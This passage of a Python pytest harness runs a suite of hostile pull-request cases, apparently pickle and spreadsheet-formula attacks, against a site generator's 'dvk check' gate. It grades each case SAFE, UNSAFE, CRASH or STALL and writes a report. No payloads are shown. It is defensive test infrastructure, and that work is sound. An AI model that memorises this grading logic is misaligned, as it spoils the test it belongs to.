        sys.setrecursionlimit(200_000)
        self.pool = ThreadPoolExecutor(max_workers=WORKERS)
        self.lock = threading.Lock()
        self.futures: dict[str, Future] = {}
        self.baseline_future: Future | None = None
        self.active_site: Path | None = None
        self.active_passed: list[Case] = []
        ARTIFACTS.mkdir(parents=True, exist_ok=True)
        self.t0 = time.monotonic()

    # --- baseline -------------------------------------------------------------------------------
    def baseline(self) -> tuple[Baseline, dict[str, Any]]:
        with self.lock:
            if self.baseline_future is None:
                self.baseline_future = self.pool.submit(self._baseline)
        return self.baseline_future.result()

    def _baseline(self) -> tuple[Baseline, dict[str, Any]]:
        root = new_project(self.tmp / "baseline" / "repo")
        cases = [
            Case("baseline-collective", "baseline", "unmodified", slug="gate-base-tap-the"),
            Case("baseline-individual", "baseline", "unmodified", kind="individual", slug="gate-base-ca-nhan"),
        ]
        for c in cases:
            write_case(root, c)
        chk = run(["--root", str(root), "check", "--strict"], CHECK_TIMEOUT)
        site = root.parent / "site"
        bld = run(["--root", str(root), "build", "--site-dir", str(site)], BUILD_TIMEOUT)
        info = {
            "check": asdict(chk),
            "build": asdict(bld),
            "site": str(site),
            "pages": [
                c
                for c in ("dien-hinh/gate-base-tap-the/index.html", "dien-hinh/gate-base-ca-nhan/index.html")
                if (site / c).exists()
            ],
        }
        base = learn_baseline(site) if bld.rc == 0 else Baseline()
        return base, info

    # --- submission -----------------------------------------------------------------------------
    def submit(self, key: str, fn, *args) -> Future:
        with self.lock:
            if key not in self.futures:
                self.futures[key] = self.pool.submit(self._guard, fn, *args)
            return self.futures[key]

    @staticmethod
    def _guard(fn, *args) -> dict[str, Outcome]:
        """A harness failure is reported against the cases it concerned, never hides the others."""
        try:
            return fn(*args)
        except BaseException as e:
            import traceback

            where = traceback.extract_tb(e.__traceback__)[-3:]
            cases = args[-1] if isinstance(args[-1], list) else [args[-1]]
            msg = f"harness error {type(e).__name__}: {str(e)[:120]} at " + " < ".join(
                f"{f.name}:{f.lineno}" for f in reversed(where)
            )
            return {c.id: Outcome(c.id, c.cls, c.what, "ERROR", msg) for c in cases}

    def submit_active(self) -> Future:
        self.baseline()  # first, from the caller's thread: jobs waiting on it must not fill the pool
        return self.submit(
            "batch-active", self._batch, "active", [c for c in selected() if c.cls == attacks.ACTIVE and not c.alone]
        )

    def submit_all(self) -> list[Future]:
        self.baseline()
        futs = [
            self.submit_active(),
            self.submit(
                "batch-other", self._batch, "other", [c for c in selected() if c.cls != attacks.ACTIVE and not c.alone]
            ),
        ]
        for c in selected():
            if c.alone:
                futs.append(self.submit(c.id, self._alone, c))
        return futs

    def outcomes(self) -> dict[str, Outcome]:
        out: dict[str, Outcome] = {}
        for f in self.submit_all():
            out.update(f.result())
        return out

    def seed_cards(self, root: Path) -> None:
        """Speed only: the baseline build's social cards (units, categories…) are the same in every
        project, so hand them over as a warm cache. Trust cases never get this."""
        cards = self.tmp / "baseline" / "repo" / ".cache" / "cards"
        if cards.is_dir():
            shutil.copytree(cards, root / ".cache" / "cards")

    # --- one case, its own project ----------------------------------------------------------------
    def _alone(self, case: Case) -> dict[str, Outcome]:
        t0 = time.monotonic()
        base, _ = self.baseline()
        root = new_project(self.tmp / f"alone-{case.n:03d}" / "repo")
        if case.cls != attacks.TRUST:
            self.seed_cards(root)
        written = write_case(root, case)
        try:
            if case.setup:
                SETUPS[case.setup](root, case)
        except Exception as e:  # the harness could not build the attack: say so, loudly
            return {
                case.id: Outcome(
                    case.id, case.cls, case.what, CRASH, f"harness setup failed: {e!r}", secs=time.monotonic() - t0
                )
            }
        if case.setup == "units_formula" or case.setup == "units_control" or case.setup == "units_duplicate":
            written.append("exemplars/units.yml")
        o = self._check_then_build(case, root, written, base, t0)
        if case.probe == "pickle_marker" and o.verdict == SAFE:
            extra = probe_pickle_marker(case, root / "site", root)
            if extra:
                o = Outcome(case.id, case.cls, case.what, UNSAFE, extra[0].line(), [e.line() for e in extra], o.secs)
        return {case.id: o}

    def _check_then_build(self, case: Case, root: Path, written: list[str], base: Baseline, t0: float) -> Outcome:
        def done(verdict: str, evidence: str, details: list[str] | None = None) -> Outcome:
            return Outcome(case.id, case.cls, case.what, verdict, evidence, details or [], time.monotonic() - t0)

        chk = run(["--root", str(root), "check", "--strict", "--format", "json"], CHECK_TIMEOUT)
        if chk.timed_out:
            return done(STALL, f"dvk check --strict did not finish in {CHECK_TIMEOUT}s")
        tb = chk.traceback()
        if tb:
            return done(CRASH, f"dvk check crashed: {tb}")
        report = parse_check(chk) or {}
        diags = report.get("diagnostics", [])
        if case.probe == "pickle_marker":
            hit = probe_pickle_marker(case, root / "site", root)
            if hit:
                return done(UNSAFE, hit[0].line())
        if chk.rc != 0:
            named = diagnostics_for(report, written) or diags
            d = named[0] if named else {}
            if case.must_refuse or named:
                return done(
                    SAFE, f"check refused: {d.get('path')}:{d.get('line')}: {d.get('code')}: {d.get('message')}"[:220]
                )
            return done(SAFE, "check exited 1 without naming a file")
        if case.must_refuse:
            return done(UNSAFE, "check --strict accepted it (exit 0, no diagnostic)")
        site = root / "site"
        bld = run(["--root", str(root), "build", "--site-dir", str(site)], BUILD_TIMEOUT)
        if bld.timed_out:
            return done(STALL, f"check passed, then dvk build did not finish in {BUILD_TIMEOUT}s")
        if bld.traceback() or bld.rc != 0:
            last = [ln for ln in bld.text.splitlines() if ln.strip()][-1:] or [""]
            return done(CRASH, f"check passed, then dvk build failed (rc={bld.rc}): {bld.traceback() or last[0][:240]}")
        o = judge_site(
            [case],
            site,
            base,
            root,
            time.monotonic() - t0,
            {case.id: f" (check {chk.secs:.0f}s, build {bld.secs:.0f}s)"},
        )[case.id]
        if case.xlsx:
            x = _xlsx_findings(case, root)
            if x:
                verdict = x[0].split(":")[0]
                if o.verdict == SAFE:
                    o = Outcome(o.id, o.cls, o.what, verdict, x[0], x, o.secs)
                else:
                    o.details.extend(x)
        o.secs = time.monotonic() - t0
        return o

    # --- many cases, one project ---------------------------------------------------------------
    def _batch(self, name: str, cases: list[Case]) -> dict[str, Outcome]:
        t0 = time.monotonic()
        base, _ = self.baseline()
        root = new_project(self.tmp / f"batch-{name}" / "repo")
        self.seed_cards(root)
        written = {c.id: write_case(root, c) for c in cases}
        chk = run(["--root", str(root), "check", "--strict", "--format", "json"], BATCH_CHECK_TIMEOUT)
        report = parse_check(chk)
        if chk.timed_out or chk.traceback() or report is None:
            # one file breaks the whole check: check every case on its own
            return self._each_alone(cases, base)
        outcomes: dict[str, Outcome] = {}
        passed: list[Case] = []
        notes: dict[str, str] = {}
        for c in cases:
            diags = diagnostics_for(report, written[c.id])
            if diags:
                d = diags[0]
                outcomes[c.id] = Outcome(
                    c.id,
                    c.cls,
                    c.what,
                    SAFE,
                    f"check refused ({d.get('severity')}): line {d.get('line')}: {d.get('code')}: {d.get('message')}"[
                        :220
                    ],
                    secs=chk.secs,
                )
                for rel in written[c.id]:
                    (root / rel).unlink()
            else:
                passed.append(c)
        if not passed:
            return outcomes
        site = root.parent / "site"
        bld = run(["--root", str(root), "build", "--site-dir", str(site)], BATCH_BUILD_TIMEOUT)
        if bld.timed_out or bld.traceback() or bld.rc != 0:
            (ARTIFACTS / f"batch-{name}-build.log").write_text(bld.text, encoding="utf-8")
            outcomes.update(self._each_alone(passed, base))
            return outcomes
        outcomes.update(judge_site(passed, site, base, root, bld.secs, notes))
        if any(c.xlsx for c in passed):
            x = _xlsx_findings(passed[0], root)
            for c in passed:
                if c.xlsx and x:
                    outcomes[c.id].details.extend(x)
        if name == "active":
            self.active_site, self.active_passed = site, passed
        (ARTIFACTS / f"batch-{name}.txt").write_text(
            f"{len(cases)} cases, {len(passed)} passed the check; check {chk.secs:.1f}s, build {bld.secs:.1f}s, "
            f"total {time.monotonic() - t0:.1f}s\n",
            encoding="utf-8",
        )
        return outcomes

    def _each_alone(self, cases: list[Case], base: Baseline) -> dict[str, Outcome]:
        out: dict[str, Outcome] = {}
        for c in cases:
            root = new_project(self.tmp / f"fallback-{c.n:03d}" / "repo")
            self.seed_cards(root)
            out[c.id] = self._check_then_build(c, root, write_case(root, c), base, time.monotonic())
        return out


# =============================================================================================
# report
# =============================================================================================
def write_report(outcomes: dict[str, Outcome], path: Path, secs: float) -> None:
    rows = [outcomes[c.id] for c in CASES if c.id in outcomes]
    counts: dict[str, dict[str, int]] = {}
    for o in rows:
        counts.setdefault(o.cls, {}).setdefault(o.verdict, 0)
        counts[o.cls][o.verdict] += 1
    lines = [
        "# Hostile pull requests against `dvk check` — report",
        "",
        f"Suite: `tests/gate/` ({len(rows)} cases), run against the current code in "
        f"{secs / 60:.1f} min wall time on this machine. Every case is expected to be SAFE.",
        "",
        "| class | SAFE | UNSAFE | CRASH | STALL | total |",
        "|---|---|---|---|---|---|",
    ]
    for cls in attacks.CLASSES:
        c = counts.get(cls, {})
        lines.append(
            f"| {cls} | {c.get(SAFE, 0)} | {c.get(UNSAFE, 0)} | {c.get(CRASH, 0)} | {c.get(STALL, 0)} | "
            f"{sum(c.values())} |"
        )
    tot = {v: sum(c.get(v, 0) for c in counts.values()) for v in (SAFE, UNSAFE, CRASH, STALL)}
    lines.append(f"| **all** | {tot[SAFE]} | {tot[UNSAFE]} | {tot[CRASH]} | {tot[STALL]} | {len(rows)} |")
    lines += [
        "",
        "## Every case",
        "",
        "| # | case | class | attack | verdict today | evidence |",
        "|---|---|---|---|---|---|",
    ]

    def cell(s: str) -> str:
        s = s.replace("|", "\\|").replace("\n", " ")
        s = "".join(ch if ch.isprintable() else f"\\u{ord(ch):04x}" for ch in s)
        return s.replace("`", "'")

    for c in CASES:
        o = outcomes.get(c.id)
        if o:
            lines.append(
                f"| {c.n} | `{c.id}` | {c.cls} | {cell(c.what)} | **{o.verdict}** | {cell(o.evidence)[:260]} |"
            )
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")


# =============================================================================================
# fixtures
# =============================================================================================
_HARNESS: Harness | None = None


@pytest.fixture(scope="session")
def harness() -> Harness:
    """Projects live in a temp folder of our own: pytest's basetemp rotation (other sessions on the
    machine) must not delete a project while it builds. DVK_GATE_KEEP=1 keeps it afterwards."""
    global _HARNESS
    if _HARNESS is None:
        _HARNESS = Harness(Path(tempfile.mkdtemp(prefix="dvk-gate-")))
    return _HARNESS


@pytest.fixture(scope="session")
def outcomes(harness: Harness) -> dict[str, Outcome]:
    result = harness.outcomes()
    secs = time.monotonic() - harness.t0
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    (ARTIFACTS / "outcomes.json").write_text(
        json.dumps({k: asdict(v) for k, v in result.items()}, ensure_ascii=False, indent=1), encoding="utf-8"
    )
    report = os.environ.get("DVK_GATE_REPORT")
    if report:
        write_report(result, Path(report), secs)
    return result


def pytest_sessionfinish(session: pytest.Session, exitstatus: int) -> None:
    if _HARNESS is not None:
        _HARNESS.pool.shutdown(wait=True, cancel_futures=True)
        if os.environ.get("DVK_GATE_KEEP") != "1":
            shutil.rmtree(_HARNESS.tmp, ignore_errors=True)


def _story_html(value: Any) -> list[str]:
    """Every `story_html` value in a JSON document."""
    if isinstance(value, dict):
        return [s for k, v in value.items() for s in ([v] if k == "story_html" and isinstance(v, str)
                                                       else _story_html(v))]
    if isinstance(value, list):
        return [s for v in value for s in _story_html(v)]
    return []
